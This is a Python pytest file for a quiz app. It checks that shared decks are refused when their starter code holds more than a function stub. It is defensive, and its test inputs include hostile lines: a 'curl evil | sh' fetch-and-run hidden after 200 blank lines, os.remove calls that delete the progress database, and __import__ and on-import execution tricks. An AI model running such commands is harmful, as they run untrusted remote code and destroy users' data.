"""A shared deck's `starter:` is data: Ctrl+R runs what the editor holds, so `validate` and loading refuse
a starter that holds anything but a stub of the exercise's function (parsed, never run)."""

from __future__ import annotations

import ast
import textwrap
from pathlib import Path

import pytest

from engine.exercises import EXERCISES
from quizapp.content.catalog import load_catalog
from quizapp.content.checks.starter import starter_issues


def _code_deck(starter: str) -> str:
    body = textwrap.indent(textwrap.dedent(starter).strip("\n"), " " * 6)
    return (
        "id: shared\ntitle: Shared\ntopic: testing\nquestions:\n"
        "  - id: shared-softmax\n    type: code\n    exercise: code-softmax\n    prompt: p\n"
        "    explanation: e\n    starter: |\n" + body + "\n"
    )


PAYLOADS = {
    "a payload far below the stub": "import numpy as np\n\ndef softmax(x):\n    raise NotImplementedError\n"
    + "\n" * 200
    + "import os\nos.system('curl evil | sh')\n",
    "code in the body": "def softmax(x):\n    import os\n    os.remove('progress.db')\n",
    "an import of os": "import os\n\ndef softmax(x):\n    pass\n",
    "a default that runs": "def softmax(x=__import__('os').getcwd()):\n    pass\n",
    "an annotation that runs": "def softmax(x: print('hi')):\n    pass\n",
    "a decorator": "import functools\n\n@functools.lru_cache\ndef softmax(x):\n    pass\n",
    "a second function": "def softmax(x):\n    pass\n\ndef helper():\n    pass\n",
    "the wrong signature": "def softmax(x, y):\n    pass\n",
    "a class": "class A:\n    pass\n\ndef softmax(x):\n    pass\n",
    "a raise of something else": "def softmax(x):\n    raise SystemExit(__import__('os').getpid())\n",
    "a submodule that runs on import": "import numpy.f2py.__main__\n\ndef softmax(x):\n    pass\n",
    "a submodule imported by name": "from numpy import f2py\n\ndef softmax(x):\n    pass\n",
    "a name from a submodule": "from numpy.f2py import __main__\n\ndef softmax(x):\n    pass\n",
    "a module off the list": "import functools\n\ndef softmax(x):\n    pass\n",
    "a star import": "from numpy import *\n\ndef softmax(x):\n    pass\n",
}


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_a_starter_that_is_more_than_a_stub_keeps_its_deck_out(name: str, isolated_home: Path) -> None:
    path = isolated_home / "shared.yaml"
    path.write_text(_code_deck(PAYLOADS[name]), encoding="utf-8")
    catalog = load_catalog([path], use_cache=False, include_default=False)
    assert not catalog.decks, name
    messages = " ".join(p.message for p in catalog.problems)
    assert "may hold only a stub" in messages, messages


def test_a_stub_with_docstring_comments_and_types_is_welcome(isolated_home: Path) -> None:
    stub = '''
        """Softmax over the last axis."""
        from __future__ import annotations
        import numpy as np  # the only library

        def softmax(x: np.ndarray) -> np.ndarray:
            """Shift each row by its max first."""
            # your code here
            raise NotImplementedError("write it")
    '''
    path = isolated_home / "shared.yaml"
    path.write_text(_code_deck(stub), encoding="utf-8")
    catalog = load_catalog([path], use_cache=False, include_default=False)
    assert list(catalog.decks) == ["shared"], [p.message for p in catalog.problems]


def test_an_import_of_a_numpy_submodule_is_refused_with_a_clear_message(isolated_home: Path) -> None:
    path = isolated_home / "shared.yaml"
    path.write_text(_code_deck(PAYLOADS["a submodule that runs on import"]), encoding="utf-8")
    catalog = load_catalog([path], use_cache=False, include_default=False)
    (problem,) = catalog.problems
    assert problem.question_id == "shared-softmax" and problem.field == "starter", problem
    assert "line 1: imports numpy.f2py.__main__ (a starter may import only math and numpy" in problem.message


@pytest.mark.parametrize(
    "imports",
    ["import numpy as np", "import math", "from math import sqrt, pi", "from numpy import ndarray, float64"],
)
def test_a_stub_may_import_numpy_and_math_and_their_names(imports: str, isolated_home: Path) -> None:
    path = isolated_home / "shared.yaml"
    path.write_text(_code_deck(f"{imports}\n\ndef softmax(x):\n    pass\n"), encoding="utf-8")
    catalog = load_catalog([path], use_cache=False, include_default=False)
    assert list(catalog.decks) == ["shared"], [p.message for p in catalog.problems]


def test_every_exercise_starter_the_engine_ships_passes() -> None:
    for ex in EXERCISES.values():
        assert starter_issues(ex.starter, ex.function, ex.starter) == [], ex.id


def test_an_answer_from_history_is_shown_as_comments_and_never_runs() -> None:
    from quizapp.tui.backend import LAST_ANSWER_SHOWN, with_last_answer

    ex = EXERCISES["code-softmax"]
    imported = "import os\nos.remove('progress.db')\n\ndef softmax(x):\n    return x\n"
    text = with_last_answer(ex.starter, imported)
    assert "# os.remove('progress.db')" in text
    assert ast.dump(ast.parse(text)) == ast.dump(ast.parse(ex.starter)), "only the starter would run"
    huge = with_last_answer(ex.starter, "x = 1\n" * 500_000)
    assert len(huge) < LAST_ANSWER_SHOWN * 2 and "cut" in huge
    assert with_last_answer(ex.starter, None) == ex.starter


@pytest.mark.parametrize(
    ("inputs", "said"),
    [
        ("random: {rows: 100000, cols: 100000}", "at most 1,000,000"),
        ("edge:\n        - {rows: 1000, cols: 999}", "too large to grade quickly"),
        ("random: {rows: 1000, cols: 150}\n      cases: 40", "values in all"),
    ],
)
def test_a_deck_whose_inputs_are_huge_is_skipped_with_its_line_and_the_others_load(
    isolated_home: Path, inputs: str, said: str
) -> None:
    huge = isolated_home / "huge.yaml"
    huge.write_text(
        "id: huge\ntitle: Huge\ntopic: testing\nquestions:\n"
        "  - id: huge-softmax\n    type: code\n    exercise: code-softmax\n    prompt: p\n"
        f"    explanation: e\n    inputs:\n      {inputs}\n",
        encoding="utf-8",
    )
    fine = isolated_home / "fine.yaml"
    fine.write_text(_code_deck("def softmax(x):\n    pass\n"), encoding="utf-8")
    catalog = load_catalog([huge, fine], use_cache=False, include_default=False)
    assert list(catalog.decks) == ["shared"]
    (problem,) = catalog.problems
    assert problem.question_id == "huge-softmax" and problem.line >= 10, problem
    assert said in problem.message, problem.message
